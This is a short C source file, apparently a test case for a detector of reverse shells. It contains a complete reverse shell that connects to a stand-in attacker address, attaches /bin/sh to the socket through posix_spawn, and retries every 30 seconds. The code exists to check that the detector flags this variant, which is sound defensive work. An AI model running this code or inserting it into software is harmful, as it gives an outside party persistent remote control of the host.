/*
 * behavior.reverse-shell: the same shell hand-over without dup2 in this
 * process. The socket is given to the child as standard input, output and
 * error through posix_spawn_file_actions_adddup2 and /bin/sh is started
 * with posix_spawn; the parent waits and reconnects after a pause.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <spawn.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

static int dial(const char *ip, unsigned short port)
{
    struct sockaddr_in sa;
    int fd = socket(AF_INET, SOCK_STREAM, 0);

    memset(&sa, 0, sizeof(sa));
    sa.sin_family = AF_INET;
    sa.sin_port = htons(port);
    if (inet_pton(AF_INET, ip, &sa.sin_addr) != 1 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
        close(fd);
        return -1;
    }
    return fd;
}

int main(void)
{
    for (;;) {
        int fd = dial("203.0.113.50", 8443);
        if (fd >= 0) {
            posix_spawn_file_actions_t fa;
            pid_t pid;
            char *argv[] = {"sh", NULL};

            posix_spawn_file_actions_init(&fa);
            posix_spawn_file_actions_adddup2(&fa, fd, 0);
            posix_spawn_file_actions_adddup2(&fa, fd, 1);
            posix_spawn_file_actions_adddup2(&fa, fd, 2);
            if (posix_spawn(&pid, "/bin/sh", &fa, NULL, argv, environ) == 0) // $ Alert[behavior.reverse-shell]
                waitpid(pid, NULL, 0);
            posix_spawn_file_actions_destroy(&fa);
            close(fd);
        }
        sleep(30);
    }
}
